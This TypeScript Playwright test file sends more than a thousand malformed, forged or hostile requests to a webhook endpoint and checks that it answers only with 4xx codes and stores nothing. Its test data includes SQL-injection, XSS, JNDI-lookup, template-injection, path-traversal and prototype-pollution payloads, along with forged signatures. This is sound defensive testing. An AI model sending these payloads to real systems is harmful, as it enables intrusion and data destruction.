import { expect, test } from "@playwright/test";
import { request, type ClientRequest } from "node:http";
import { createAppServer, EVENTS_SECRET, type AppServer } from "../pipeline/app-server";
import { fixtureNow, type EventBody } from "../../lib/testing/events";
import { pooled, rowCounts, signBytes } from "./fault-config";

/*
 * Abuse of POST /api/integration-events (docs/product R17–R19): well over a thousand
 * malformed or hostile requests — wrong types, huge strings, deep nesting,
 * bad UTF-8, duplicate keys, prototype-pollution keys, SQL and HTML
 * injection, forged company ids, bad or missing signatures, wrong content
 * types, oversized bodies. Every answer must be a 4xx (never a 5xx) and no
 * row may appear anywhere.
 */

type Hostile = { category: string; body: Buffer; headers: Record<string, string>; expect?: number[] };

let app: AppServer;
let seq = 0;

test.describe.configure({ mode: "serial" });

test.beforeAll(async () => {
  app = await createAppServer({ name: "faults-hostile", env: { RESEND_API_KEY: "" } });
  await app.start();
});

test.afterAll(async () => {
  await app?.stop();
});

const json = (v: unknown) => Buffer.from(typeof v === "string" ? v : JSON.stringify(v));
const signed = (category: string, body: Buffer, extra: Record<string, string> = {}, expectStatus?: number[]): Hostile => ({
  category,
  body,
  headers: { "content-type": "application/json", ...signBytes(EVENTS_SECRET, `evt_hostile_${++seq}`, body), ...extra },
  expect: expectStatus,
});

const INJECTIONS = [
  "acme' OR '1'='1",
  "acme'; DROP TABLE events; --",
  '" OR 1=1 --',
  "acme\u0000",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "{{7*7}}",
  "${jndi:ldap://x/a}",
  "../../etc/passwd",
  "%00",
  "\u202eacme",
  "аcme", // Cyrillic а
];
const WRONG_VALUES: unknown[] = [null, 0, -1, 1.5, true, false, [], {}, "", " ", "x".repeat(100_000), ["acme"], { $ne: null }];

function templates(): EventBody[] {
  return [
    "reauth-hubspot-token-revoked",
    "mapping-hubspot-push",
    "sync-salesforce-push",
    "disabled-hubspot-uninstalled",
    "sync-hubspot-pull-clean",
  ].map((f) => fixtureNow(f));
}

function generate(): Hostile[] {
  const out: Hostile[] = [];
  const valid = templates();
  const base = valid[4]; // a valid clean sync report for acme HubSpot
  const baseBytes = json(base);

  // signatures: missing, wrong, stale, tampered
  for (let i = 0; i < 20; i++) {
    const id = `evt_sig_${i}`;
    const good = signBytes(EVENTS_SECRET, id, baseBytes);
    const ct = { "content-type": "application/json" };
    const otherSecret = "whsec_" + Buffer.from(`not-the-secret-${i}-0123456789`).toString("base64");
    const stale = signBytes(EVENTS_SECRET, id, baseBytes, new Date(Date.now() - (6 + i) * 60_000));
    const future = signBytes(EVENTS_SECRET, id, baseBytes, new Date(Date.now() + (6 + i) * 60_000));
    const variants: Record<string, string>[] = [
      ct,
      { ...ct, "webhook-id": id, "webhook-timestamp": good["webhook-timestamp"] },
      { ...ct, "webhook-id": id, "webhook-signature": good["webhook-signature"] },
      { ...ct, "webhook-timestamp": good["webhook-timestamp"], "webhook-signature": good["webhook-signature"] },
      { ...ct, ...signBytes(otherSecret, id, baseBytes) },
      { ...ct, ...stale },
      { ...ct, ...future },
      { ...ct, ...good, "webhook-signature": good["webhook-signature"].replace("v1,", "v2,") },
      { ...ct, ...good, "webhook-signature": "v1," },
      { ...ct, ...good, "webhook-signature": "garbage" },
      { ...ct, ...good, "webhook-signature": "v1,".padEnd(5_000, "A") },
      { ...ct, ...good, "webhook-id": `${id}x` },
      { ...ct, ...good, "webhook-timestamp": "not-a-number" },
      { ...ct, ...good, "webhook-timestamp": "-1" },
    ];
    for (const headers of variants) out.push({ category: "signature", body: baseBytes, headers, expect: [401] });
    // a correctly signed body changed afterwards
    out.push({ category: "signature", body: json({ ...base, companyId: "globex" }), headers: { ...ct, ...good }, expect: [401] });
  }

  // content types
  for (const type of [
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/xml",
    "application/jsonx",
    "application/json-patch+json",
    "text/json",
    "",
    "*/*",
    "application/javascript",
  ]) {
    for (let i = 0; i < 3; i++) {
      const h = signed("content-type", baseBytes);
      if (type) h.headers["content-type"] = type;
      else delete h.headers["content-type"];
      h.expect = [415];
      out.push(h);
    }
  }

  // malformed JSON and bad UTF-8, correctly signed
  const malformed = [
    "",
    "{",
    "}",
    "[",
    '{"type":',
    "{'type':'sync.completed'}",
    '{"type":"sync.completed",}',
    "NaN",
    "undefined",
    "null",
    "[]",
    "123",
    '"text"',
    "true",
    "{}",
    '{"a":1}{"b":2}',
    base64Garbage(),
  ];
  for (const m of malformed) for (let i = 0; i < 3; i++) out.push(signed("malformed-json", json(m), {}, [400]));
  // the library verifies the body as text, so invalid bytes fail the signature (401) or the decoding (400)
  const badUtf8 = [[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xfe, 0xff]];
  for (const bytes of badUtf8) {
    for (let i = 0; i < 4; i++) {
      const text = JSON.stringify({ ...base, data: { ...base.data, operation: "contacts.pull" } });
      const at = text.indexOf("contacts.pull");
      out.push(
        signed(
          "bad-utf8",
          Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from(bytes), Buffer.from(text.slice(at))]),
          {},
          [400, 401],
        ),
      );
    }
  }

  // deep nesting
  for (const depth of [33, 64, 500, 5_000, 100_000]) {
    out.push(signed("deep-nesting", json(`${"[".repeat(depth)}${"]".repeat(depth)}`), {}, [400]));
    out.push(signed("deep-nesting", json(`{"type":"sync.completed","data":${'{"a":'.repeat(depth)}1${"}".repeat(depth)}}`), {}, [400]));
    out.push(signed("deep-nesting", json("[".repeat(depth)), {}, [400]));
  }

  // wrong types and huge strings in every required field of several event types
  for (const t of valid) {
    for (const field of ["type", "companyId", "provider", "occurredAt", "data"] as const) {
      for (const value of WRONG_VALUES) {
        if (field === "companyId" && typeof value === "string" && value.length < 100 && value.trim()) continue;
        // every field of a disabled event's data is optional: {} is a valid body there
        // (unknown keys are dropped, so any object is an empty data there)
        if (field === "data" && t.type === "integration.disabled" && value && typeof value === "object" && !Array.isArray(value)) continue;
        out.push(signed("wrong-type", json({ ...t, [field]: value }), {}, [400]));
      }
    }
    const { data } = t;
    for (const key of Object.keys(data)) {
      for (const value of [null, 42, "x".repeat(300_000), [[[]]], { nested: true }]) {
        // valid values, not hostile ones: a count is a number, providerError is any object
        if (
          (key === "totalRecords" && value === 42) ||
          (key === "providerError" && !Array.isArray(value) && typeof value === "object" && value)
        )
          continue;
        out.push(signed("wrong-type-data", json({ ...t, data: { ...data, [key]: value } }), {}, [400]));
      }
    }
    for (const missing of ["type", "companyId", "provider", "occurredAt", "data"]) {
      const copy: Record<string, unknown> = { ...t };
      delete copy[missing];
      out.push(signed("missing-field", json(copy), {}, [400]));
    }
  }
  for (const date of ["2026-13-45T00:00:00Z", "yesterday", "0", "2026-11-27", "+275760-09-13T00:00:00.001Z", "2026-11-27T25:61:00Z"]) {
    out.push(signed("bad-date", json({ ...base, occurredAt: date }), {}, [400]));
  }
  for (const n of [-1, 1.5, 1e309, "10", null]) {
    out.push(
      signed(
        "bad-count",
        json(
          `{"type":"sync.completed","companyId":"acme","provider":"hubspot","occurredAt":"${base.occurredAt}","data":{"operation":"contacts.pull","startedAt":"${base.occurredAt}","finishedAt":"${base.occurredAt}","counts":{"processed":${JSON.stringify(n) ?? "1e309"},"created":0,"updated":0,"skipped":0,"failed":0}}}`,
        ),
        {},
        [400],
      ),
    );
  }
  const tooMany = {
    ...valid[1],
    data: { ...valid[1].data, errors: Array.from({ length: 2_001 }, (_, i) => ({ recordId: `r${i}`, code: "X", message: "m" })) },
  };
  out.push(signed("too-many-errors", json(tooMany), {}, [400]));

  // duplicate keys: the last one wins, and it is bad
  const text = JSON.stringify(base).slice(0, -1);
  for (const tail of [
    ',"type":"nope"',
    ',"provider":"zoho"',
    ',"companyId":"evil"',
    ',"data":null',
    ',"occurredAt":"never"',
    ',"companyId":"globex","provider":"salesforce"',
  ]) {
    for (let i = 0; i < 3; i++) out.push(signed("duplicate-keys", json(`${text}${tail}}`), {}, [400, 404, 409]));
  }

  // prototype-pollution keys: a valid event hidden where only a merge would find it
  for (const wrap of ["__proto__", "constructor", "prototype"]) {
    for (let i = 0; i < 4; i++) {
      out.push(signed("prototype-keys", json(`{"${wrap}":${JSON.stringify(base)}}`), {}, [400]));
      out.push(
        signed("prototype-keys", json(`{"constructor":{"prototype":${JSON.stringify(base)}},"${wrap}":{"polluted":true}}`), {}, [400]),
      );
      out.push(
        signed(
          "prototype-keys",
          json(
            `{"type":"sync.completed","__proto__":{"companyId":"acme","provider":"hubspot"},"occurredAt":"${base.occurredAt}","data":${JSON.stringify(base.data)}}`,
          ),
          {},
          [400],
        ),
      );
    }
  }

  // injection strings and forged companies: never stored, never an error page
  for (const s of INJECTIONS) {
    for (let i = 0; i < 3; i++) {
      out.push(signed("injection-company", json({ ...base, companyId: s }), {}, [400, 404]));
      out.push(signed("injection-provider", json({ ...base, provider: s }), {}, [400]));
      out.push(signed("injection-type", json({ ...base, type: s }), {}, [400]));
    }
    if (/^[\x20-\x7e]+$/.test(s)) {
      // the webhook-id itself carries the injection (header values must be ASCII)
      const body = json({ ...base, companyId: "evil" });
      out.push({
        category: "injection-webhook-id",
        body,
        headers: { "content-type": "application/json", ...signBytes(EVENTS_SECRET, `evt_${s}`, body) },
        expect: [400, 404],
      });
    }
  }
  for (const [companyId, provider] of [
    ["globex", "salesforce"],
    ["globex", "zoho"],
    ["acme", "zoho"],
    ["ACME", "hubspot"],
    ["initech", "hubspot"],
    ["%61cme", "hubspot"],
    ["acme/../globex", "hubspot"],
  ]) {
    for (let i = 0; i < 4; i++) out.push(signed("forged-company", json({ ...base, companyId, provider }), {}, [400, 404, 409]));
  }
  return out;
}

function base64Garbage(): string {
  return Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37) % 256)).toString("base64");
}

async function send(h: Hostile): Promise<number> {
  const res = await fetch(`${app.url}/api/integration-events`, { method: "POST", headers: h.headers, body: new Uint8Array(h.body) });
  await res.arrayBuffer();
  return res.status;
}

test("≥ 1,000 malformed or hostile requests: only 4xx, never a 5xx, no stray rows", async () => {
  test.setTimeout(180_000);
  const before = await rowCounts(app.db());
  const requests = generate();
  expect(requests.length).toBeGreaterThanOrEqual(1_000);
  const statuses = await pooled(
    requests.map((h) => () => send(h)),
    16,
  );

  const byCategory = new Map<string, Map<number, number>>();
  const unexpected: string[] = [];
  requests.forEach((h, i) => {
    const s = statuses[i];
    const m = byCategory.get(h.category) ?? new Map<number, number>();
    m.set(s, (m.get(s) ?? 0) + 1);
    byCategory.set(h.category, m);
    if (s < 400 || s >= 500 || (h.expect && !h.expect.includes(s)))
      unexpected.push(`${h.category} #${i} → ${s}: ${h.body.subarray(0, 120).toString()}`);
  });
  console.log(
    `[measured] ${requests.length} hostile requests: ` +
      [...byCategory].map(([c, m]) => `${c} ${[...m].map(([s, n]) => `${n}×${s}`).join("/")}`).join(", "),
  );
  expect(unexpected, unexpected.slice(0, 10).join("\n")).toEqual([]);
  expect(statuses.filter((s) => s >= 500)).toHaveLength(0);
  expect(await rowCounts(app.db())).toEqual(before);
});

/** POST over node:http, resolving with the status even when the server answers before reading the whole body. */
function rawPost(headers: Record<string, string>, write: (req: ClientRequest) => void): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request(`${app.url}/api/integration-events`, { method: "POST", headers }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on("error", (e) => setTimeout(() => reject(e), 500)); // a reset after the answer is fine
    write(req);
  });
}

test("oversized bodies: 413 whether declared or streamed, nothing stored", async () => {
  const before = await rowCounts(app.db());
  const big = Buffer.alloc(1024 * 1024 + 1, 0x20);
  const declared = signed("oversized", big);
  expect(await rawPost({ ...declared.headers, "content-length": String(big.length) }, (req) => req.end(big))).toBe(413);
  // no content-length (chunked): the server must count the bytes itself
  const streamed = signed("oversized", big);
  const status = await rawPost(streamed.headers, (req) => {
    for (let i = 0; i < big.length; i += 64 * 1024) req.write(big.subarray(i, i + 64 * 1024));
    req.end();
  });
  expect(status).toBe(413);
  expect(await rowCounts(app.db())).toEqual(before);
  // and the endpoint still works
  expect(await send(signed("valid", json(fixtureNow("sync-hubspot-pull-clean"))))).toBe(202);
});
